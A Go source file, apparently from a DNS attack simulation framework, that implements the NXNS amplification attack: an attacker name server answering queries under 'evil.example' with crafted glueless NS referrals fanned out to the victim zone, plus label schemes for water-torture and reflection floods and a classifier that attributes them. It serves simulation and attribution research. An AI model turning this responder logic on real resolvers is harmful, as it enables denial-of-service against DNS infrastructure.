@@ -1,0 +1,164 @@
+package attacks
+
+import (
+	"fmt"
+	"strconv"
+	"strings"
+
+	"ritw/internal/dnswire"
+)
+
+// EvilZone is the attacker-controlled zone NXNS bots query. Runs with
+// an NXNS campaign add it to the resolver zone config, delegated to
+// the attacker's name-server host.
+var EvilZone = dnswire.MustParseName("evil.example")
+
+// Query-name grammar. Every attack query carries its campaign in the
+// first label so the victim side can attribute packets without shared
+// state:
+//
+//	nx<idx>b<probe>q<seq>   NXNS bot query (under EvilZone)
+//	nf<j>v<nonce>           crafted NS-target fetch (under victim zone)
+//	wt<idx>b<probe>n<k>     water-torture query (under victim zone)
+//	rf<idx>                 reflection query (under victim zone)
+
+// NXNSQueryLabel is the label a bot queries under EvilZone: a nonce
+// unique per (campaign, bot, sequence) so the attacker's referrals are
+// never cache-satisfied.
+func NXNSQueryLabel(idx, probeID, seq int) string {
+	return fmt.Sprintf("nx%db%dq%d", idx, probeID, seq)
+}
+
+// FloodLabel is the label a water-torture bot queries under the victim
+// zone. pool is the bot's name-pool slot (seq%Names, or seq when the
+// pool is unbounded): small pools are what negative caching absorbs.
+func FloodLabel(idx, probeID, pool int) string {
+	return fmt.Sprintf("wt%db%dn%d", idx, probeID, pool)
+}
+
+// ReflectLabel is the label reflection campaign idx queries under the
+// victim zone. One fixed name per campaign: after the first
+// resolution, reflected responses are served from cache — pure
+// reflection bandwidth with no authoritative load.
+func ReflectLabel(idx int) string {
+	return fmt.Sprintf("rf%d", idx)
+}
+
+// referralTargetLabel is the j-th glueless NS name the responder
+// delegates to, echoing the query nonce so every fetch misses cache.
+func referralTargetLabel(j int, nonce string) string {
+	return fmt.Sprintf("nf%dv%s", j, nonce)
+}
+
+// Classify attributes a victim-zone query name (presentation or key
+// form) to an attack campaign by its first label. Benign measurement
+// labels ("p<ID>x<seq>") and anything unparsable return ok=false.
+func Classify(qname string) (kind string, idx int, ok bool) {
+	label, _, _ := strings.Cut(qname, ".")
+	switch {
+	case strings.HasPrefix(label, "nf"):
+		// nf<j>v<nonce>, nonce = nx<idx>b<probe>q<seq>.
+		_, nonce, found := strings.Cut(label[2:], "v")
+		if !found || !strings.HasPrefix(nonce, "nx") {
+			return "", 0, false
+		}
+		n, rest := leadingInt(nonce[2:])
+		if rest == "" || rest[0] != 'b' {
+			return "", 0, false
+		}
+		return KindNXNS, n, true
+	case strings.HasPrefix(label, "wt"):
+		n, rest := leadingInt(label[2:])
+		if rest == "" || rest[0] != 'b' {
+			return "", 0, false
+		}
+		return KindFlood, n, true
+	case strings.HasPrefix(label, "rf"):
+		n, rest := leadingInt(label[2:])
+		if rest != "" {
+			return "", 0, false
+		}
+		return KindReflect, n, true
+	}
+	return "", 0, false
+}
+
+// leadingInt splits label into its leading decimal run and the rest.
+// A missing run returns rest = "" so callers fail closed.
+func leadingInt(s string) (int, string) {
+	i := 0
+	for i < len(s) && s[i] >= '0' && s[i] <= '9' {
+		i++
+	}
+	if i == 0 {
+		return 0, ""
+	}
+	n, err := strconv.Atoi(s[:i])
+	if err != nil {
+		return 0, ""
+	}
+	return n, s[i:]
+}
+
+// ReferralResponder is the attacker's name server: a stateless
+// handler that answers every query for its zone with a crafted
+// glueless referral — fanout NS records whose targets sit under the
+// victim zone and echo the query nonce. No RNG, no state: the
+// response is a pure function of the query, which is what keeps
+// attacker behaviour identical across shard layouts.
+type ReferralResponder struct {
+	Zone    dnswire.Name // the attacker zone (EvilZone)
+	Victim  dnswire.Name // zone whose authoritatives the fetches hit
+	Fanouts []int        // referral set size per NXNS campaign index
+}
+
+// fanoutFor picks the campaign's fanout from the query nonce
+// ("nx<idx>b..."); unparsable or out-of-range labels get 1, so junk
+// queries still receive a harmless minimal referral.
+func (r *ReferralResponder) fanoutFor(nonce string) int {
+	if strings.HasPrefix(nonce, "nx") {
+		if idx, rest := leadingInt(nonce[2:]); rest != "" && rest[0] == 'b' && idx < len(r.Fanouts) {
+			return r.Fanouts[idx]
+		}
+	}
+	return 1
+}
+
+// Respond builds the referral for one query payload, or nil for
+// anything that is not a plain query (responses, junk, foreign zones).
+func (r *ReferralResponder) Respond(payload []byte) []byte {
+	msg, err := dnswire.Unpack(payload)
+	if err != nil || msg.Response {
+		return nil
+	}
+	q, ok := msg.Question()
+	if !ok || !q.Name.IsSubdomainOf(r.Zone) {
+		return nil
+	}
+	resp, err := dnswire.NewResponse(msg)
+	if err != nil {
+		return nil
+	}
+	labels := q.Name.Labels()
+	nonce := "x"
+	if len(labels) > 0 {
+		nonce = strings.ToLower(labels[0])
+	}
+	for j := 0; j < r.fanoutFor(nonce); j++ {
+		target, err := r.Victim.Child(referralTargetLabel(j, nonce))
+		if err != nil {
+			continue
+		}
+		resp.Authority = append(resp.Authority, dnswire.RR{
+			Name:  q.Name,
+			Class: dnswire.ClassINET,
+			TTL:   300,
+			Data:  dnswire.NS{Host: target},
+		})
+	}
+	out, err := resp.Pack()
+	if err != nil {
+		return nil
+	}
+	return out
+}
